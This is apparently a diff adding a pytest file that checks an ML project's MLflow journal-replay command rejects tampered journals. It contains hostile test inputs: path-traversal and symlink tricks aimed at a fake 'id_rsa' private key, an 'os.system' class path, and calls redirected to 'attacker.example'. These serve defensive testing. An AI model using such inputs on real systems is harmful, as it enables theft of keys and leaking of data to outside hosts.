@@ -1,0 +1,220 @@
+"""Untrusted run data: outage journals, resumed runs and the other files a run leaves behind.
+
+A journal (``runs/<experiment>/<run id>/mlflow-pending``), a checkpoint or an MLflow store is data: it never
+decides which code runs or where anything is written. Each hostile case must end in one ``error:`` line
+(exit 2) or a :class:`ZooError`, and change nothing: no file outside the working folder, no journal file,
+no MLflow run.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from pathlib import Path
+
+import mlflow
+import pytest
+
+from zoo.cli import main
+from zoo.registry import ZooError
+from zoo.tracking.pending import CALLS, FILES, JOURNALED, PENDING_DIR, _SIGNATURES, read_journal, sync
+
+#: written by a replay that reached outside its journal
+MARKER = "OUTSIDE"
+
+
+def _error_lines(err: str) -> list[str]:
+    return [line for line in err.splitlines() if line.startswith("error:")]
+
+
+def _tree(root: Path) -> dict[str, str]:
+    """Every file under ``root`` with the SHA-256 of its bytes (symbolic links as their target)."""
+    return {str(p.relative_to(root)): (f"-> {p.readlink()}" if p.is_symlink() else
+                                       hashlib.sha256(p.read_bytes()).hexdigest())
+            for p in sorted(root.rglob("*")) if p.is_file() or p.is_symlink()}
+
+
+# -- outage journals ---------------------------------------------------------------------------------
+@pytest.fixture
+def store(tmp_path) -> str:
+    return f"sqlite:///{tmp_path / 'store.db'}"
+
+
+@pytest.fixture
+def journal(tmp_path, store) -> Path:
+    """The journal of a real run of ``store``: a metric and a logged file, as :class:`PendingClient` writes them."""
+    client = mlflow.MlflowClient(store)
+    run = client.create_run(client.create_experiment("outage")).info.run_id
+    folder = tmp_path / "runs" / "outage" / run / PENDING_DIR
+    (folder / FILES / "1").mkdir(parents=True)
+    (folder / FILES / "1" / "notes.txt").write_text("kept during the outage")
+    calls = [{"method": "log_batch", "args": {"run_id": run, "metrics": [
+                 {"__entity__": "Metric", "key": "loss", "value": 0.5, "timestamp": 1, "step": 16}]}},
+             {"method": "log_artifact", "args": {"run_id": run, "local_path": f"{FILES}/1/notes.txt"}}]
+    _write(folder, [{"uri": store, **call} for call in calls])
+    return folder
+
+
+def _write(folder: Path, calls: list[dict]) -> None:
+    (folder / CALLS).write_text("".join(json.dumps(call) + "\n" for call in calls))
+
+
+def _add(folder: Path, method: str, **args) -> None:
+    """Append one call for the journal's run (``run_id`` filled in unless given)."""
+    call = {"uri": json.loads((folder / CALLS).read_text().splitlines()[0])["uri"], "method": method,
+            "args": {"run_id": folder.parent.name, **args}}
+    with open(folder / CALLS, "a") as file:
+        file.write(json.dumps(call) + "\n")
+
+
+def test_every_journaled_method_has_its_argument_checks():
+    assert set(_SIGNATURES) == set(JOURNALED)
+
+
+def test_a_journal_replays_into_the_store_named_and_removes_only_its_own_files(journal, store, tmp_path):
+    (journal / "mine.txt").write_text("not the journal's")  # something the zoo did not write there
+    assert main(["tracking", "sync", str(journal), "--tracking-uri", store]) == 0
+    client = mlflow.MlflowClient(store)
+    run = journal.parent.name
+    assert [m.step for m in client.get_metric_history(run, "loss")] == [16]
+    assert [a.path for a in client.list_artifacts(run)] == ["notes.txt"]
+    assert sorted(p.name for p in journal.iterdir()) == ["mine.txt"]  # only the replayed journal files went
+
+
+def _outside(tmp_path: Path) -> Path:
+    """A file outside the journal that a hostile call tries to send (or to reach through a link)."""
+    secret = tmp_path / "secret"
+    secret.mkdir(exist_ok=True)
+    (secret / "id_rsa").write_text("private")
+    return secret / "id_rsa"
+
+
+def _unknown_method(journal, tmp_path):
+    _add(journal, "delete_run")
+
+
+def _dunder_method(journal, tmp_path):
+    _add(journal, "__class__")
+
+
+def _unknown_argument(journal, tmp_path):
+    _add(journal, "log_param", key="a", value="b", synchronous=True, extra="x")
+
+
+def _wrong_type(journal, tmp_path):
+    _add(journal, "log_metric", key="a", value="not a number")
+
+
+def _entity_with_code(journal, tmp_path):
+    _add(journal, "log_batch", params=[{"__entity__": "Metric", "key": "a", "value": 1, "timestamp": 0, "step": 0,
+                                        "class_path": "os.system"}])
+
+
+def _absolute_path(journal, tmp_path):
+    _add(journal, "log_artifact", local_path=str(_outside(tmp_path)))
+
+
+def _parent_path(journal, tmp_path):
+    _outside(tmp_path)
+    _add(journal, "log_artifact", local_path=f"{FILES}/../../../../../secret/id_rsa")
+
+
+def _outside_files(journal, tmp_path):
+    _add(journal, "log_artifact", local_path=CALLS)  # inside the journal, but not one of its copies
+
+
+def _symlinked_file(journal, tmp_path):
+    (journal / FILES / "2").mkdir()
+    (journal / FILES / "2" / "id_rsa").symlink_to(_outside(tmp_path))
+    _add(journal, "log_artifact", local_path=f"{FILES}/2/id_rsa")
+
+
+def _symlinked_folder(journal, tmp_path):
+    (journal / FILES / "2").symlink_to(_outside(tmp_path).parent, target_is_directory=True)
+    _add(journal, "log_artifacts", local_dir=f"{FILES}/2")
+
+
+def _symlink_inside_a_folder(journal, tmp_path):
+    (journal / FILES / "2").mkdir()
+    (journal / FILES / "2" / "id_rsa").symlink_to(_outside(tmp_path))
+    _add(journal, "log_artifacts", local_dir=f"{FILES}/2")
+
+
+def _artifact_path_escapes(journal, tmp_path):
+    _add(journal, "log_text", text="x", artifact_file="../../../../escaped.txt")
+
+
+def _another_run(journal, tmp_path):
+    _add(journal, "set_terminated", run_id="0" * 32, status="FINISHED")
+
+
+def _another_store(journal, tmp_path):
+    calls = [json.loads(line) for line in (journal / CALLS).read_text().splitlines()]
+    _write(journal, [{**call, "uri": f"sqlite:///{tmp_path / 'elsewhere.db'}"} for call in calls])
+
+
+HOSTILE_JOURNALS = {
+    "unknown method": (_unknown_method, "method 'delete_run' is not one the zoo journals"),
+    "dunder method": (_dunder_method, "method '__class__' is not one the zoo journals"),
+    "unknown argument": (_unknown_argument, "unknown arguments extra, synchronous"),
+    "wrong type": (_wrong_type, "log_metric with bad values of value"),
+    "entity with extra fields": (_entity_with_code, "log_batch with bad values of params"),
+    "absolute path": (_absolute_path, "log_artifact with bad values of local_path"),
+    "../ path": (_parent_path, "log_artifact with bad values of local_path"),
+    "file outside files/": (_outside_files, "is not inside the journal's files/ folder"),
+    "symlinked file": (_symlinked_file, "passes through a symbolic link"),
+    "symlinked folder": (_symlinked_folder, "passes through a symbolic link"),
+    "symlink inside a folder": (_symlink_inside_a_folder, "holds a symbolic link"),
+    "artifact path escapes": (_artifact_path_escapes, "log_text with bad values of artifact_file"),
+    "another run": (_another_run, "not the journal's own run"),
+    "another store": (_another_store, "was journaled for the store sqlite:///"),
+}
+
+
+@pytest.mark.parametrize("case", list(HOSTILE_JOURNALS))
+def test_sync_refuses_a_hostile_journal_and_changes_nothing(case, journal, store, tmp_path, monkeypatch, capsys):
+    make, message = HOSTILE_JOURNALS[case]
+    make(journal, tmp_path)
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", store)  # the configured store: the run's own
+    before, runs_before = _tree(tmp_path), _metrics(store, journal.parent.name)
+    assert main(["tracking", "sync", str(journal)]) == 2
+    lines = _error_lines(capsys.readouterr().err)
+    assert len(lines) == 1 and message in lines[0], lines
+    assert _tree(tmp_path) == before  # the journal kept whole, nothing written anywhere
+    assert _metrics(store, journal.parent.name) == runs_before  # not even the valid calls before it were sent
+    assert not list(tmp_path.rglob("escaped.txt"))
+
+
+def _metrics(store: str, run: str) -> dict:
+    client = mlflow.MlflowClient(store)
+    return {"metrics": client.get_run(run).data.metrics, "artifacts": [a.path for a in client.list_artifacts(run)]}
+
+
+def test_a_journal_for_another_store_goes_only_where_the_user_says(journal, store, tmp_path):
+    calls = [json.loads(line) for line in (journal / CALLS).read_text().splitlines()]
+    _write(journal, [{**call, "uri": "http://attacker.example:5000"} for call in calls])
+    with pytest.raises(ZooError, match="journaled for the store http://attacker.example:5000"):
+        sync(journal)  # the configured store (./mlflow.db) is not the one recorded: refused, not followed
+    assert sync(journal, store) == 0  # the user names the destination
+    assert mlflow.MlflowClient(store).get_metric_history(journal.parent.name, "loss")
+
+
+@pytest.mark.parametrize("make", ["no journal", "journal file elsewhere"])
+def test_sync_of_a_folder_that_is_not_a_journal_removes_nothing(make, tmp_path, capsys):
+    folder = tmp_path / "precious"
+    folder.mkdir()
+    (folder / "thesis.tex").write_text("years of work")
+    if make == "journal file elsewhere":  # the journal's file name, but not in a journal folder
+        (folder / CALLS).write_text("")
+    before = _tree(tmp_path)
+    assert main(["tracking", "sync", str(folder)]) == 2
+    lines = _error_lines(capsys.readouterr().err)
+    assert len(lines) == 1 and "is not an MLflow journal folder" in lines[0]
+    assert _tree(tmp_path) == before
+
+
+def test_sync_checks_every_journal_before_it_sends_any(journal, store, tmp_path, capsys):
+    not_a_journal = tmp_path / "nowhere" / PENDING_DIR
+    assert main(["tracking", "sync", str(journal), str(not_a_journal), "--tracking-uri", store]) == 2
+    assert "is not an MLflow journal folder" in capsys.readouterr().err
+    assert (journal / CALLS).is_file() and not mlflow.MlflowClient(store).get_run(journal.parent.name).data.metrics
